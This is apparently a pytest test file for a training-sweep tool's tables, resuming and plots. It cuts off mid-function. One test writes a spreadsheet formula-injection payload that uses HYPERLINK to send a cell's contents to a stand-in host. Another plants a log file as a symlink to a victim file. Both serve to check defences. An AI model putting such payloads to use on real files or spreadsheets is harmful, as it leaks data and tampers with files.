"""Sweeps, their tables and figures, and the plot commands (reste.experiments)."""

from __future__ import annotations

import csv
import dataclasses
import decimal
import json
import re
import shutil
import statistics
import sys
from pathlib import Path

import pytest

from reste.cli import main
from reste import get_estimator
from reste.config import TrainConfig
from reste.rundir import read_metrics
from reste.errors import UsageError
from reste.experiments import expand_grid, parse_grid, run_state, summarize
from reste.experiments.sweep import threads_per_job, time_left

PNG = b"\x89PNG\r\n\x1a\n"


def _is_png(path: Path) -> bool:
    return path.is_file() and path.read_bytes()[:8] == PNG


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    """A finished two-setting sweep on digits (1 epoch, 1 seed, indicators on), run through the CLI."""
    out = tmp_path_factory.mktemp("sweep") / "s"
    argv = ["sweep", "--grid", "estimator=ste,reste", "--seeds", "0", "--dataset", "digits", "--model",
            "digits_1w1a", "--epochs", "1", "--indicators", "--threads", "1", "--out", str(out)]
    assert main(argv) == 0
    return out, argv


def test_sweep_table_matches_the_runs(sweep):
    out, _ = sweep
    manifest = json.loads((out / "sweep.json").read_text())
    assert [s["label"] for s in manifest["settings"]] == ["estimator=ste", "estimator=reste"]
    rows = _read_csv(out / "results.csv")
    assert [r["setting"] for r in rows] == ["estimator=ste", "estimator=reste"]
    for col in ("estimator", "n", "best_acc_mean", "best_acc_std", "final_acc_mean", "final_acc_std",
                "estimating_error_mean", "estimating_error_std", "gradient_stability_mean",
                "gradient_stability_std"):
        assert col in rows[0]
    for row, setting in zip(rows, manifest["settings"]):
        run_dir = out / setting["runs"]["0"]
        metrics = read_metrics(run_dir)
        assert len(metrics) == 1
        assert json.loads((run_dir / "config.json").read_text())["estimator"] == row["estimator"]
        assert row["n"] == "1" and row["best_acc_std"] == ""  # one seed: no spread
        assert float(row["best_acc_mean"]) == pytest.approx(max(m["test_acc"] for m in metrics))
        assert float(row["final_acc_mean"]) == pytest.approx(metrics[-1]["test_acc"])
        assert float(row["estimating_error_mean"]) == pytest.approx(metrics[0]["estimating_error"])
        assert float(row["gradient_stability_mean"]) == pytest.approx(metrics[0]["gradient_stability"])
    md = (out / "results.md").read_text()
    assert "| estimator=reste |" in md and "digits" in md
    assert len(_read_csv(out / "runs.csv")) == 2
    for name in ("indicators.png", "error_vs_stability.png"):
        assert _is_png(out / name), name


def test_sweep_keeps_every_epoch_beside_its_tables(sweep):
    """epochs.csv holds each finished run's metrics.jsonl, so the curves outlive the run folders."""
    out, _ = sweep
    manifest = json.loads((out / "sweep.json").read_text())
    rows = _read_csv(out / "epochs.csv")
    assert [(r["setting"], r["seed"], r["epoch"]) for r in rows] == [("estimator=ste", "0", "1"),
                                                                     ("estimator=reste", "0", "1")]
    for row, setting in zip(rows, manifest["settings"]):
        m = read_metrics(out / setting["runs"]["0"])[0]
        for key in ("test_acc", "train_loss", "lr", "estimating_error", "gradient_stability"):
            assert float(row[key]) == pytest.approx(m[key]), key


def test_sweep_skips_finished_runs_and_resumes_partial_ones(sweep, capsys):
    out, argv = sweep
    manifest = json.loads((out / "sweep.json").read_text())
    ste, reste_ = (out / s["runs"]["0"] for s in manifest["settings"])
    ste_mtime = (ste / "last.pt").stat().st_mtime_ns
    (reste_ / "best.pt").unlink()  # as if killed between the epoch's last.pt and its best.pt: resuming mends it
    assert run_state(reste_, 1) == "partial" and run_state(ste, 1) == "done"
    capsys.readouterr()
    assert main(argv) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("[")]
    assert len(lines) == 3
    assert "estimator=ste seed 0: already finished" in lines[0]
    assert lines[1] == f"[2/2] estimator=reste seed 0: mending its checkpoint files -> {reste_} (epochs in its " \
                       "train.log)"
    assert "estimator=reste seed 0: best" in lines[2]
    assert lines[2].endswith(" so far]") and "left" not in lines[2]  # the last run: nothing left to estimate
    assert (ste / "last.pt").stat().st_mtime_ns == ste_mtime
    assert run_state(reste_, 1) == "done" and len(read_metrics(reste_)) == 1 and (reste_ / "best.pt").is_file()


def test_a_runs_log_planted_as_a_link_is_not_appended_to(tmp_path, monkeypatch):
    """sec2 6: a run's train.log was opened with open(path, "a"): one planted as a link (a received or shared
    sweep folder) had the run's lines appended to its target. The run now fails, naming the file."""
    from reste import engine
    from reste.experiments import run_sweep

    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, estimator="ste")
    monkeypatch.setattr(engine, "train", lambda *a, **k: 1 / 0)  # a first try that made the run's folder
    first: list[str] = []
    run_sweep(base, {}, [0], tmp_path / "s", threads=1, log=first.append, report=False)
    assert first[-1] == "sweep: 1 run failed or left out; see the lines above and train.log in their run folders"
    run = next((tmp_path / "s" / "runs").glob("*/seed0"))
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (run / "train.log").unlink()
    (run / "train.log").symlink_to(victim)
    monkeypatch.undo()
    lines: list[str] = []
    run_sweep(base, {}, [0], tmp_path / "s", threads=1, log=lines.append, report=False)
    assert victim.read_text() == "precious\n"
    assert any("FAILED" in line and "train.log is not a plain file" in line for line in lines), lines
    assert lines[-1] == "sweep: 1 run failed or left out; see the lines above", lines  # not the log that failed


def test_a_sweep_says_when_each_run_starts_or_resumes_and_where_its_epochs_go(tmp_path, monkeypatch):
    """(review sweep M5) a sweep whose output is a file says which run trains (or resumes, and where) and the folder
    whose train.log has its epoch lines; a resumed run's line says it was resumed."""
    from reste import engine
    from reste.experiments import run_sweep

    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=2, estimator="ste")
    lines: list[str] = []
    run_sweep(base, {}, [0], tmp_path / "s", threads=1, log=lines.append, report=False)
    run = next((tmp_path / "s" / "runs").glob("*/seed0"))
    assert lines[1] == f"[1/1] ste seed 0: training -> {run} (epochs in its train.log)"
    assert "ste seed 0: best" in lines[2] and "resumed" not in lines[2]
    assert sum(line.startswith("epoch ") for line in (run / "train.log").read_text().splitlines()) == 2
    metrics = (run / "metrics.jsonl").read_text().splitlines(keepends=True)
    (run / "metrics.jsonl").write_text(metrics[0])  # as if stopped after epoch 1: its last.pt holds epoch 1
    from reste.experiments import sweep as sweep_module

    monkeypatch.setattr(sweep_module, "read_structure", lambda path: (None, {"epoch": 1}))
    monkeypatch.setattr(engine, "resume", lambda *a, **k: {"best_acc": 50.0, "final_acc": 50.0})
    lines.clear()
    run_sweep(base, {}, [0], tmp_path / "s", threads=1, log=lines.append, report=False)
    assert lines[1] == f"[1/1] ste seed 0: resuming at epoch 2/2 -> {run} (epochs in its train.log)"
    assert "(0s, resumed at epoch 2)" in lines[2]
    # (review combos) stopped inside its first epoch, it resumed too
    from types import SimpleNamespace

    from reste.experiments.sweep import _progress_line

    setting = SimpleNamespace(label="ste", config=base)
    done = {"status": "done", "seconds": 1.0, "result": {"best_acc": 1.0, "final_acc": 1.0}, "from_epoch": 0}
    assert "resumed at epoch 1" in _progress_line(1, 1, setting, 0, {**done, "resumed": True})
    assert "resumed" not in _progress_line(1, 1, setting, 0, {**done, "resumed": False})


def _copy(sweep, tmp_path):
    """A copy of the shared sweep that a test may change (its run folders are relative to it)."""
    out, argv = sweep
    shutil.copytree(out, tmp_path / "s")
    return tmp_path / "s", [str(tmp_path / "s") if a == str(out) else a for a in argv]


def test_a_finished_run_whose_checkpoints_were_deleted_is_still_finished(sweep, capsys, tmp_path):
    """Its settings and metrics hold all the table needs: the sweep skips it and the report keeps it."""
    out, argv = _copy(sweep, tmp_path)
    before = (out / "runs.csv").read_text()
    for run in (out / "runs").glob("*/seed0"):
        for name in ("last.pt", "best.pt"):
            (run / name).unlink()
        assert run_state(run, 1) == "done"
    capsys.readouterr()
    assert main(argv) == 0
    assert capsys.readouterr().out.count("already finished, skipped") == 2
    assert (out / "runs.csv").read_text() == before
    run = next((out / "runs").glob("*/seed0"))
    (run / "config.json").rename(run / "config.kept")  # (review mut6 #11) metrics alone: no run there
    assert run_state(str(run), 1) == "new"  # (a path as text too: mut6's suggestion 2, a TypeError)


def test_a_run_folder_whose_config_was_deleted_is_left_out_saying_what_to_do(sweep, capsys, tmp_path):
    """(review sweeps #4) its metrics.jsonl and train.log left, a new run there is refused in every sweep (`pass a
    new or empty folder as --out`, no flag of a sweep): the dry run and the sweep leave it out, saying so."""
    out, argv = _copy(sweep, tmp_path)
    run = next((out / "runs").glob("ste-*/seed0"))
    for name in ("config.json", "last.pt", "best.pt"):
        (run / name).unlink()
    (out / "runs.csv").unlink()  # (no earlier row to keep)
    capsys.readouterr()
    why = f"{run} has no config.json but holds metrics.jsonl, so no run can start there; delete the folder to train "
    assert main([*argv, "--dry-run"]) == 0
    assert f"estimator=ste seed 0: damaged, left as it is: {why}" in capsys.readouterr().out
    assert main(argv) == 1
    assert f"estimator=ste seed 0: LEFT OUT: {why}" in capsys.readouterr().out
    assert main(["show", str(out)]) == 0  # (review rev12 #8) not "not started", which the same command trains
    assert f"seed 0: damaged: {why}" in capsys.readouterr().out
    assert not (run / "config.json").exists()
    shutil.rmtree(run)  # as it says
    assert main(argv) == 0 and (run / "config.json").is_file()


def test_time_left_is_the_pace_of_the_runs_trained_so_far():
    from reste.experiments.sweep import _seconds_left

    assert time_left(100.0, None) == ""  # nothing trained yet: no estimate
    assert time_left(600.0, 1200.0) == "10m so far, about 20m left"
    assert time_left(3 * 3600.0, 7560.0) == "3h00m so far, about 2h06m left"
    assert time_left(42.0, 0.0) == "42s so far"
    assert _seconds_left([], [20, 20], 1) is None
    trained = [(10.0, 8.0, 20), (10.0, 8.0, 20)]  # two runs of 20 epochs: 10 s each, 2 s of it their start-up
    assert _seconds_left(trained, [20, 20, 20], 1) == pytest.approx(30.0)
    assert _seconds_left(trained, [20, 20, 20], 2) == pytest.approx(15.0)  # two at a time
    assert _seconds_left(trained, [20], 4) == pytest.approx(10.0)  # one run left trains alone (review mut4 #5)
    assert _seconds_left(trained, [], 2) == 0.0


def test_the_time_left_does_not_take_a_resumed_runs_start_up_for_epochs_nor_a_held_run_for_a_trained_one(
        tmp_path, capsys, monkeypatch):
    """(review sweeps #7) a resumed run of 3 epochs left that took 4 s, 2.5 s of them its start-up, set the pace
    of every run at 4 s per 3/20 of a run (7x too slow); a held run counted as a run trained in 0 s ("about 0s
    left" with runs to train)."""
    from reste import engine
    from reste.experiments.sweep import _seconds_left
    from reste.rundir import RunInUse

    assert _seconds_left([(4.0, 1.5, 3)], [3], 1) == pytest.approx(2.5 + 1.5)  # its start-up, then 3 epochs
    assert _seconds_left([(4.0, 1.5, 3)], [20], 1) == pytest.approx(2.5 + 10.0)  # a new run: all 20 epochs
    train = engine.train

    def held_first(config, run_dir, **kwargs):
        if config.seed == 0:
            raise RunInUse(f"{run_dir} is in use by pid 4242 (a run is writing to it); wait for it to finish")
        return train(config, run_dir, **kwargs)

    monkeypatch.setattr(engine, "train", held_first)
    main(["sweep", "--dataset", "digits", "--epochs", "1", "--grid", "estimator=ste", "--seeds", "0,1,2",
          "--threads", "1", "--no-report", "--out", str(tmp_path / "s")])
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("[")]
    assert lines[1].startswith("[1/3] estimator=ste seed 0: HELD BY ANOTHER JOB") and lines[1].endswith("finish")
    assert re.search(r"\[2/3\] estimator=ste seed 1: best .*  \[\d+s so far, about \d+s left\]$", lines[3])
    assert re.search(r"\[3/3\] .*  \[\d+s so far\]$", lines[5])


def test_grid_axes_resolve_and_identical_settings_are_shared():
    base = TrainConfig(dataset="digits", epochs=2)
    settings = expand_grid(base, {"estimator": ["ste", "reste"], "o_end": [2, 3]})
    # o_end does not apply to ste, so ste appears once
    assert [s.label for s in settings] == ["estimator=ste", "estimator=reste,o_end=2", "estimator=reste,o_end=3"]
    assert settings[2].config.estimator_options["o_end"] == 3.0
    # ReSTE with the default o_end is the same training as o_end=3: same run folder
    default = expand_grid(base, {"estimator": ["reste"]})[0]
    assert default.key == settings[2].key
    assert expand_grid(base, {"o_schedule": ["constant"], "lr": [0.05]})[0].config.lr == 0.05
    fm = expand_grid(TrainConfig(dataset="fashion-mnist"), {"width": [4, 8]})
    assert [s.config.model_options for s in fm] == [{"width": 4}, {"width": 8}]
    for values in ([], (), "ste", None):  # an axis of no value trained nothing, silently (review mut6 #3)
        with pytest.raises(UsageError, match="grid axis 'estimator' needs a non-empty list of values"):
            expand_grid(base, {"estimator": values})


@pytest.mark.parametrize("spec", ["estimator", "estimator=", "estimator=ste,,reste", "bogus=1,2", "seed=0,1",
                                  "preset=cifar10-resnet20-1w1a,cifar10-vgg-small-1w1a"])
def test_bad_grid_is_a_one_line_usage_error(spec, tmp_path, capsys):
    rc = main(["sweep", "--grid", spec, "--out", str(tmp_path / "s"), "--epochs", "1"])
    err = capsys.readouterr().err
    assert rc == 2
    assert err.startswith("reste: error:") and err.count("\n") == 1
    if spec.startswith("preset="):
        assert "preset is not a grid axis: a preset is a whole recipe; run one sweep per preset" in err
    assert not (tmp_path / "s" / "runs").exists()


@pytest.mark.parametrize("spec, message", [
    ("o_end=3,3.0", "--grid o_end has a value twice (3, 3.0: a number written two ways is one value)"),
    ("estimator=ste,STE", "--grid estimator has a value twice ('ste', 'STE': two names of one estimator)"),
    ("dataset=fmnist,fashion-mnist", "--grid dataset has a value twice ('fmnist', 'fashion-mnist': two names"),
    ("lr=0.1,1e-1", "--grid lr has a value twice"),
])
def test_grid_values_that_name_one_setting_are_refused_as_a_value_twice(spec, message, tmp_path, capsys):
    """(review sweeps #9) o_end=3,3.0 and estimator=ste,STE became one setting without a word, where lr=0.1,1e-1
    and a model option written two ways are refused."""
    rc = main(["sweep", "--grid", spec, "--epochs", "2", "--out", str(tmp_path / "s"), "--dry-run"])
    err = capsys.readouterr().err
    assert rc == 2 and err.count("\n") == 1 and message in err, err



@pytest.mark.parametrize("flags, message", [
    (["--grid", "o_end=0,1"], "reste: error: --grid o_end=0: --o-end must be >= 1, got 0.0\n"),
    (["--grid", "lr=0.1,-1"], "reste: error: --grid lr=-1: --lr must be a positive number, got -1\n"),
    (["--grid", "fda_n=5,2000", "--estimator", "fda"], "reste: error: --grid fda_n=2000: --fda-n must be in [0, 1000], "
                                                         "got 2000\n"),
    (["--grid", "estimator=ste,fda", "--fda-n", "2000"], "reste: error: --fda-n must be in [0, 1000], got 2000\n"),
    (["--o-end", "0", "--grid", "lr=0.1,0.2"], "reste: error: --o-end must be >= 1, got 0.0\n"),  # the flag's own
    (["--t-max", "0", "--grid", "estimator=ede,reste"], "reste: error: --t-max must be in [1e-30, 1e30], got 0.0\n"),
])
def test_a_bad_grid_value_is_named_as_the_grid_gives_it(flags, message, tmp_path, capsys):
    """(review extend1, suggestion 4) `--grid k=0,1` answered "--k must be > 0, got 0.0", a flag never given: the
    setting refused is named; an error of the sweep's flags alone is theirs."""
    rc = main(["sweep", *flags, "--epochs", "2", "--out", str(tmp_path / "s"), "--dry-run"])
    assert rc == 2 and capsys.readouterr().err == message

def test_grid_parsing():
    assert parse_grid(["estimator=ste,reste", "o_end=1,1.5", "a32=true,false"]) == {
        "estimator": ["ste", "reste"], "o_end": [1, 1.5], "a32": [True, False]}
    with pytest.raises(UsageError, match="given twice"):
        parse_grid(["lr=0.1", "lr=0.2"])
    # a --model-option value is read as a --grid value is; `none` is the string for a model option (a plugin's
    # act=none), in both
    from reste.cli import parse_model_options

    values = ["16", "0.5", "true", " wide "]
    assert [parse_model_options([f"x={v}"])["x"] for v in values] == parse_grid([f"x={','.join(values)}"])["x"]
    assert parse_model_options(["act=none"]) == {"act": "none"} and parse_grid(["x=none,wide"])["x"] == [None, "wide"]
    settings = expand_grid(TrainConfig(dataset="fmnist"), parse_grid(["width=8,16"]))
    assert [s.config.model_options["width"] for s in settings] == [8, 16]
    # `none` reaches the config as the string, which the factory's `width: int` refuses before any run
    with pytest.raises(UsageError, match="for 'fmnist_vgg28_1w1a': width must be an int, got 'none'"):
        expand_grid(TrainConfig(dataset="fmnist"), parse_grid(["width=8,none"]))


def _fake_run(run_dir: Path, accs: list[float], errors: list[float], stabs: list[float]) -> None:
    run_dir.mkdir(parents=True)
    config = TrainConfig(dataset="digits", epochs=len(accs)).resolve()  # (as reste train writes it)
    (run_dir / "config.json").write_text(json.dumps(config.to_dict()))
    (run_dir / "last.pt").write_bytes(b"")
    lines = [dict(epoch=i + 1, train_acc=a, test_acc=a, train_loss=1.0, test_loss=1.0, estimating_error=e,
                  gradient_stability=s) for i, (a, e, s) in enumerate(zip(accs, errors, stabs))]
    (run_dir / "metrics.jsonl").write_text("".join(json.dumps(m) + "\n" for m in lines))


def test_summarize_statistics_and_o_end_figure(tmp_path):
    """Mean and sample std over seeds; unfinished runs are left out; accuracy vs o_end is drawn."""
    runs = {1: ([50, 60], [3, 1]), 3: ([70, 65], [2, 2]), 10: ([40, 55], [1, 1])}
    settings = []
    for o, (accs, errs) in runs.items():
        seeds = {}
        for seed, (acc, err) in enumerate(zip(accs, errs)):
            rel = f"runs/o{o}/seed{seed}"
            _fake_run(tmp_path / rel, [acc - 5, acc], [err + 1, err], [o * 1e-3, o * 1e-3])
            seeds[str(seed)] = rel
        seeds["2"] = f"runs/o{o}/seed2"  # planned but never started
        settings.append({"label": f"o_end={o}", "values": {"o_end": o}, "key": str(o), "runs": seeds})
    base = TrainConfig(dataset="digits", epochs=2, indicators="general").to_dict()
    (tmp_path / "sweep.json").write_text(json.dumps(
        {"base": base, "grid": {"o_end": list(runs)}, "seeds": [0, 1, 2], "settings": settings}))
    rows = summarize(tmp_path)
    assert [r["n"] for r in rows] == [2, 2, 2] and rows[0]["n_runs"] == 3
    assert rows[1]["best_acc_mean"] == pytest.approx(67.5)
    assert rows[1]["best_acc_std"] == pytest.approx(statistics.stdev([70, 65]))
    assert rows[0]["estimating_error_mean"] == pytest.approx(statistics.fmean([3.5, 1.5]))
    assert rows[2]["gradient_stability_std"] == pytest.approx(0.0)
    assert "| o_end=3 | 67.50 ± 3.54 |" in (tmp_path / "results.md").read_text()
    assert "2/3" in (tmp_path / "results.md").read_text()
    for name in ("accuracy_vs_o_end.png", "indicators.png", "error_vs_stability.png"):
        assert _is_png(tmp_path / name), name


def test_each_cell_is_its_own_statistic_of_its_own_column(tmp_path):
    """(review mut8 #4, #10, #11) Three seeds whose values are skewed (the median is not the mean) and whose best
    epoch is not their last (the best and final spreads differ), and a fourth seed that failed (an accident, not a
    divergence): each results.md cell is its column's mean and sample standard deviation."""
    from reste import rundir

    curves = [[50, 60, 55], [60, 60, 58], [61, 40, 45]]
    seeds = {}
    for seed, accs in enumerate(curves):
        rel = f"runs/o1/seed{seed}"
        _fake_run(tmp_path / rel, accs, [3, 2, 1 + seed ** 3], [0.1, 0.2, 0.3 + 0.1 * seed])
        seeds[str(seed)] = rel
    seeds["3"] = "runs/o1/seed3"
    (tmp_path / "runs" / "o1" / "seed3").mkdir()
    rundir.record_failure(tmp_path / "runs" / "o1" / "seed3", "RuntimeError: CUDA out of memory")
    base = TrainConfig(dataset="digits", epochs=3, indicators="general").to_dict()
    (tmp_path / "sweep.json").write_text(json.dumps({"base": base, "grid": {"o_end": [1]}, "seeds": [0, 1, 2, 3],
                                                     "settings": [{"label": "o_end=1", "values": {"o_end": 1},
                                                                   "key": "1", "runs": seeds}]}))
    (row,) = summarize(tmp_path, plots=False, log=lambda message: None)
    best, final = [max(c) for c in curves], [c[-1] for c in curves]
    assert row["best_acc_mean"] == pytest.approx(statistics.fmean(best)) != statistics.median(best)
    assert row["final_acc_mean"] == pytest.approx(statistics.fmean(final)) != statistics.median(final)
    assert (row["n"], row["n_runs"], row["n_diverged"]) == (3, 4, 0)
    runs = _read_csv(tmp_path / "runs.csv")
    cells = {}
    for key in ("estimating_error", "gradient_stability"):
        values = [float(run[key]) for run in runs]
        assert len(set(values)) == 3 and row[f"{key}_mean"] == pytest.approx(statistics.fmean(values))
        cells[key] = (statistics.fmean(values), statistics.stdev(values))
    (error, error_std), (stability, stability_std) = cells.values()
    line = (tmp_path / "results.md").read_text().splitlines()[-1]

    def to_place(mean: float, spread: str) -> str:  # the mean rounded to the place of the spread's last digit
        return format(decimal.Decimal(mean).quantize(decimal.Decimal(1).scaleb(decimal.Decimal(spread).as_tuple()
                                                                                .exponent)), "f")

    error_spread, stability_spread = format(error_std, ".2g"), format(stability_std, ".2g")
    assert line == (f"| o_end=1 | {statistics.fmean(best):.2f} ± {statistics.stdev(best):.2f} | "
                    f"{statistics.fmean(final):.2f} ± {statistics.stdev(final):.2f} | "
                    f"{to_place(error, error_spread)} ± {error_spread} | "
                    f"{to_place(stability, stability_spread)} ± {stability_spread} | 3/4 |")


@pytest.mark.parametrize("mean, std, fmt, shown", [
    (229.0310, 0.2317, ".4g", "229.03 ± 0.23"),   # ".4g" alone: "229 ± 0.23" (review arch/notes: results.md's .4g)
    (145.9805, 4.1163, ".4g", "146.0 ± 4.1"),     # the zero that reaches the spread's place is kept
    (9.0057e-06, 5.87e-07, ".4g", "9.01e-06 ± 5.9e-07"),
    (0.00033, 2.2e-05, ".3g", "0.000330 ± 2.2e-05"),
    (1211.3, 69.0, ".4g", "1211 ± 69"),
    (0.001, 5.0, ".4g", "0 ± 5"),                 # a spread larger than the mean: 0 at the spread's place
    (3.0, 0.0, ".3g", "3 ± 0"),                   # no spread: the column's own format
    (75.4767, 0.4, ".2f", "75.48 ± 0.40"),
    (9.996, 0.05, ".4g", "10.00 ± 0.05"),          # (review diff28 #5) a rounding that carries keeps the place
    (0.09996, 0.0005, ".4g", "0.1000 ± 0.0005"),
    (0.004, 0.05, ".4g", "0.00 ± 0.05"),            # a mean that rounds to 0 there
    (1e30, 0.01, ".4g", "1.00000000000e+30 ± 0.01"),  # (more places than a float holds: 12 digits at most)
    (0.001, 120.0, ".4g", "0 ± 1.2e+02"),         # (review mut11 #4) the spread's last digit at the tens: no places
    (3e-06, 1e-06, ".4g", "3e-06 ± 1e-06"),       # one digit in exponent form: no "3.e-06"
])
def test_a_table_cell_shows_the_mean_to_the_place_of_its_spread(mean, std, fmt, shown):
    from reste.experiments.report import _pm

    assert _pm(mean, std, fmt, ".2g" if fmt.endswith("g") else None) == shown


def test_a_setting_of_one_run_shows_its_indicators_in_their_columns_formats():
    """(review mut11 #18) with no spread (a setting of one run), a cell is its column's own format: the error's .4g
    and the stability's .3g, which a spread's places otherwise hide."""
    from reste.experiments.report import table_cells

    row = {"best_acc_mean": 88.123, "best_acc_std": None, "final_acc_mean": 87.5, "final_acc_std": None,
           "estimating_error_mean": 0.0123456, "estimating_error_std": None,
           "gradient_stability_mean": 1.234567, "gradient_stability_std": None}
    assert table_cells(row) == ["88.12", "87.50", "0.01235", "1.23"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_character_a_spreadsheet_takes_for_a_formula_is_escaped(tmp_path, start):
    """(review mut8 #12) A cell starting with = + - @, a tab or a carriage return is a formula to a spreadsheet."""
    from reste.experiments.report import _read_csv as read_back, write_csv

    label = f'{start}1+HYPERLINK("http://x.example/?"&B2,"ste")'
    write_csv(tmp_path / "runs.csv", [{"setting": label, "best_acc": 88.5}])
    assert [row["setting"] for row in _read_csv(tmp_path / "runs.csv")] == ["'" + label]
    assert [row["setting"] for row in read_back(tmp_path / "runs.csv")] == [label]


def test_a_sweeps_one_run_is_named_in_its_figure(sweep, tmp_path):
    """(review newuser #1) --setting that leaves one run of a sweep drew it without its name: the legend names it."""
    from reste.experiments import plots

    out, _ = sweep
    reste_ = next((out / "runs").glob("reste-*/seed0"))
    fig = plots.runs_figure([reste_], ["estimator=reste seed 0"])
    assert [t.get_text() for legend in fig.legends for t in legend.get_texts()] == ["estimator=reste seed 0"]
    assert not plots.runs_figure([reste_]).legends  # a run given alone: no legend to read


def test_plot_estimators_is_the_estimators_figure_beside_a_run_of_that_name(tmp_path, capsys, monkeypatch, sweep):
    """(review newuser #3) a run folder named estimators in the current folder took the word over, silently."""
    import shutil

    out, _ = sweep
    shutil.copytree(next((out / "runs").glob("reste-*/seed0")), tmp_path / "estimators")
    monkeypatch.chdir(tmp_path)
    assert main(["plot", "estimators", "--out", "est.png", "--at", "0.3"]) == 0
    assert "`reste plot ./estimators`" in capsys.readouterr().out
    assert main(["plot", "./estimators", "--out", "run.png"]) == 0 and _is_png(tmp_path / "run.png")
    shutil.rmtree(tmp_path / "estimators")
    shutil.copytree(out, tmp_path / "estimators")  # a sweep of that name (review diff11 #4)
    assert main(["plot", "estimators", "--out", "est.png"]) == 0
    assert "the sweep in the folder estimators here is drawn by `reste plot ./estimators`" in capsys.readouterr().out
    assert main(["plot", "estimators", "--setting", "estimator=ste"]) == 2
    assert "`reste plot ./estimators`" in capsys.readouterr().err


def test_the_estimators_figure_draws_each_estimator_where_its_schedule_stands():
    """(review mut7 #13) `reste plot estimators --at 0.5`: each scheduled estimator halfway through training (as
    its set_progress at epoch 1 of 2 puts it), named with those values, and ReSTE at o = 1, 2 and 3. Only the PNG
    was checked: the curves drawn at 5% of training, or ReSTE at o = 5, passed."""
    import torch

    from reste.estimators import ESTIMATORS, ReSTE, get_estimator
    from reste.experiments.plots import estimator_curves

    x = torch.linspace(-2.0, 2.0, 401, dtype=torch.float64)
    drawn = {label: g for label, _, _, g in estimator_curves(0.5, x)}
    for o in (1, 2, 3):
        assert torch.equal(drawn.pop(f"reste o={o}"), ReSTE(o=float(o), o_end=float(o),
                                                             schedule="constant").derivative(x))
    for name in (n for n in ESTIMATORS if n != "reste"):
        est = get_estimator(name)
        est.set_progress(1, 2)
        values = ", ".join(f"{k}={v:.3g}" for k, v in est.schedule_values().items())
        assert torch.equal(drawn.pop(f"{name} ({values})" if values else name), est.derivative(x)), name
    assert not drawn


def test_plot_estimators_and_runs(tmp_path, capsys):
    assert main(["plot", "estimators", "--out", str(tmp_path / "est.png")]) == 0
    assert _is_png(tmp_path / "est.png")
    _fake_run(tmp_path / "run", [50, 60, 70], [3, 2, 1], [1e-5, 2e-5, 3e-5])
    assert main(["plot", str(tmp_path / "run")]) == 0
    assert _is_png(tmp_path / "run" / "curves.png")
    assert main(["plot", "estimators", "--out", str(tmp_path / "est.jpg")]) == 2
    assert ".png, .pdf or .svg" in capsys.readouterr().err
    assert main(["plot", str(tmp_path / "run"), "--out", str(tmp_path / "c.gif")]) == 2
    assert ".png, .pdf or .svg" in capsys.readouterr().err
    assert main(["plot", "estimators", "--out", str(tmp_path / "est.pdf")]) == 0
    assert (tmp_path / "est.pdf").read_bytes().startswith(b"%PDF")
    assert main(["plot", str(tmp_path / "run"), "--out", str(tmp_path / "curves.svg")]) == 0
    assert b"<svg" in (tmp_path / "curves.svg").read_bytes()[:2000]


def test_plot_of_a_folder_of_runs_draws_the_runs_inside_it(tmp_path, capsys, monkeypatch):
    """`reste train --out runs/a`, `--out runs/b`, then `reste plot runs`: the runs one level inside, each once,
    into runs/curves.png; a folder with no run in it or below is said to be none of what plot takes."""
    for name, acc in (("b", [40, 45]), ("a", [50, 60])):
        _fake_run(tmp_path / "runs" / name, acc, [2, 1], [1e-5, 2e-5])
    (tmp_path / "runs" / "notes").mkdir()  # a folder beside them that is no run: not drawn
    (tmp_path / "runs" / "fresh").mkdir()  # a run in its first epoch (its metrics file empty): said, left out
    shutil.copy(tmp_path / "runs" / "a" / "config.json", tmp_path / "runs" / "fresh")
    (tmp_path / "runs" / "fresh" / "metrics.jsonl").write_text("")  # (as a run makes it: review diff16 #5)
    (tmp_path / "runs" / "sw").mkdir()  # a sweep: said, not drawn (its folder stands for its runs when given)
    (tmp_path / "runs" / "sw" / "sweep.json").write_text("{}")
    from reste.experiments import plots

    drawn = []
    monkeypatch.setattr(plots, "plot_runs", lambda dirs, out, *a, **k: drawn.append(([d.name for d in dirs], out))
                        or Path(out or "curves.png"))
    assert main(["plot", str(tmp_path / "runs")]) == 0
    assert drawn == [(["a", "b"], tmp_path / "runs" / "curves.png")]
    out = capsys.readouterr().out
    assert f"{tmp_path / 'runs'} holds 2 runs (a, b); each is drawn" in out
    assert f"1 run in {tmp_path / 'runs'} has no finished epoch yet; left out" in out
    assert "the sweep in it (sw) is drawn when given itself" in out
    assert main(["plot", str(tmp_path / "runs"), str(tmp_path / "runs" / "a")]) == 0  # a run beside its folder: once
    assert drawn[-1] == (["a", "b"], Path("curves.png"))
    assert main(["plot", str(tmp_path / "runs" / "a")]) == 0  # a run itself is not searched for runs inside it
    assert drawn[-1] == (["a"], None)
    assert main(["plot", str(tmp_path / "runs" / "notes")]) == 2
    assert "is not a run, a sweep, or a folder of runs or sweeps" in capsys.readouterr().err
    for name in ("a", "b"):  # only runs with no finished epoch left: said so, not "no config.json" (review diff15 #3)
        (tmp_path / "runs" / name / "metrics.jsonl").unlink()
    assert main(["plot", str(tmp_path / "runs")]) == 2
    assert "holds 3 runs, none with a finished epoch yet; the sweep in it (sw)" in capsys.readouterr().err


def _real_like_run(run_dir: Path, estimator: str, losses: list[float], schedule: dict[str, list[float]]) -> None:
    """A run directory as reste train writes it: config.json with the estimator, lr and schedule per epoch."""
    run_dir.mkdir(parents=True)
    config = TrainConfig(dataset="digits", epochs=len(losses), estimator=estimator).resolve().to_dict()
    (run_dir / "config.json").write_text(json.dumps(config))
    lines = [dict(epoch=i + 1, lr=0.1 / (i + 1), train_acc=50.0 + i, test_acc=48.0 + i, train_loss=loss,
                  test_loss=2 * loss, **{k: v[i] for k, v in schedule.items()}) for i, loss in enumerate(losses)]
    (run_dir / "metrics.jsonl").write_text("".join(json.dumps(m) + "\n" for m in lines))


def test_a_plot_of_runs_whose_indicators_were_measured_in_other_modes_says_so(tmp_path):
    """(review userB #5) Paper and general indicators read other layers, F and averaging: drawn on one axis they
    looked comparable. A warning says so, and the panels' titles too; runs of one mode draw as before."""
    import warnings

    from reste.experiments.plots import runs_figure

